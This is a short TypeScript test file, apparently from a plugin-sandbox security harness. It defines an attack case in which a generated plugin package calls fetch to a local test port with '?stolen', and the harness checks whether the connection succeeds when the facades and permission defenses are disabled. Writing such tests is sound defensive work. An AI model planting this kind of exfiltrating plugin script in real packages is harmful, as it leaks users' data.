import type { Attack } from '../../attack.ts';
import { scriptDoing } from '../../scene/scripts.ts';
import { writePackage } from '../../scene/write-package.ts';
import { connected } from '../../watch/harms.ts';

export const attack: Attack = {
  name: 'fetches',
  aim: 'sends what it knows to an address with fetch',
  belt: 'facades and permission',
  control: { belts: { facades: false, permission: false } },
  build: ({ plugins, ports }) =>
    void writePackage(plugins, {
      script: scriptDoing(`await fetch('http://127.0.0.1:${ports.tcp}/?stolen')`),
    }),
  harm: connected,
};
